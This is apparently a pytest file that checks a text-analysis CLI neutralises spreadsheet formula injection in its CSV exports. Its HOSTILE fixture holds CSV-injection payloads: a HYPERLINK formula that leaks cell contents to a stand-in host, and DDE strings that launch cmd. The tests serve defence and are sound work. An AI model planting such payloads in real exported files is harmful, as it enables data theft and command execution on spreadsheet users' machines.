"""No formula reaches a spreadsheet through the CSVs of ``sinoru analyze --out`` or
``sinoru report --csv``; one neutraliser serves both (issue 12, item 3)."""
from __future__ import annotations

import csv

import pandas as pd
import pytest

from analysis import cli
from analysis.cells import FORMULA_STARTS, neutralise_formulas, restore_formulas
from analysis.results import Results

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+cmd|' /C notepad'!A0",
    "minus": "-2+3",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}
TEXT = ("Trade talks\n\nThe ministers met in Kazan and agreed to expand trade and energy "
        "deals. Sanctions pressure on banks grew, analysts said.\n")


def _is_formula(cell: str) -> bool:
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.fixture
def hostile_out(tmp_path, capsys):
    folder = tmp_path / "articles"
    folder.mkdir()
    rows = ["file,title,outlet,group"]
    for i, (name, value) in enumerate(HOSTILE.items()):
        (folder / f"{name}.txt").write_text(TEXT, encoding="utf-8")
        quoted = '"' + value.replace('"', '""') + '"'
        group = "=evil" if i % 2 else "+west"  # group names reach group_summary/keyness/tests
        rows.append(f"{name}.txt,{quoted},{quoted},{group}")
    manifest = tmp_path / "manifest.csv"
    manifest.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    code = cli.main(["analyze", str(folder), "--manifest", str(manifest), "--out", str(out),
                     "--quiet", "--n-boot", "20", "--n-perm", "20", "--topics", "2",
                     "--min-docs", "1"])
    capsys.readouterr()
    assert code == 0
    return out


def test_analyze_csvs_hold_no_formula(hostile_out):
    written = {p.name for p in hostile_out.glob("*.csv")}
    assert {"documents.csv", "group_summary.csv", "keyness.csv", "tests.csv"} <= written
    for name in sorted(written):
        formulas = [c for c in _cells(hostile_out / name) if _is_formula(c)]
        assert not formulas, f"{name} holds formulas: {formulas[:3]}"
    with open(hostile_out / "documents.csv", encoding="utf-8", newline="") as fh:
        docs = {r["doc_id"]: r for r in csv.DictReader(fh)}
    titles = {r["title"] for r in docs.values()}
    outlets = {r["outlet"] for r in docs.values()}
    # The analyst still reads the title, behind the apostrophe spreadsheets hide (the
    # manifest reader strips the tab and CR; the next test writes them as they are).
    assert {"'" + v.strip() for v in HOSTILE.values()} <= titles
    assert {"'" + v.strip() for v in HOSTILE.values()} <= outlets
    groups = {c for c in _cells(hostile_out / "group_summary.csv")}
    assert {"'=evil", "'+west"} <= groups


def test_sinoru_reads_its_own_csvs_back_unchanged(hostile_out):
    results = Results.load(hostile_out)
    assert set(results.table("documents")["title"]) == {v.strip() for v in HOSTILE.values()}


def test_results_write_neutralises_tab_and_cr_prefixes(tmp_path):
    values = list(HOSTILE.values())
    table = pd.DataFrame({"doc_id": [f"d{i}" for i in range(len(values))], "title": values,
                          "share": [-0.5] * len(values)})
    Results({"schema": "sinoru.results", "schema_version": 1},
            {"documents": table}).write(tmp_path)
    cells = _cells(tmp_path / "documents.csv")
    assert not [c for c in cells if _is_formula(c)]
    assert {"'\t=1+2", "'\r=1+2", "'-2+3", "-0.5"} <= set(cells)
    assert Results.load(tmp_path).table("documents")["title"].tolist() == values


def test_report_csv_uses_the_same_neutraliser(hostile_out, tmp_path, capsys):
    code = cli.main(["report", str(hostile_out), "--csv", str(tmp_path / "report")])
    capsys.readouterr()
    assert code == 0
    for path in sorted((tmp_path / "report").glob("*.csv")):
        assert not [c for c in _cells(path) if _is_formula(c)], path.name
    assert "'" + HOSTILE["hyperlink"] in _cells(tmp_path / "report" / "documents.csv")


def test_neutralise_keeps_numbers_and_round_trips():
    frame = pd.DataFrame({"v": ["-0.5", "+3", "-2+3", "'=x", "'hello", "plain", None, ""],
                          "n": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0]})
    safe = neutralise_formulas(frame)
    assert safe["v"].tolist()[:6] == ["-0.5", "+3", "'-2+3", "''=x", "'hello", "plain"]
    assert pd.isna(safe["v"][6]) and safe["v"][7] == ""
    assert safe["n"].tolist() == frame["n"].tolist()
    assert restore_formulas(safe).equals(frame)
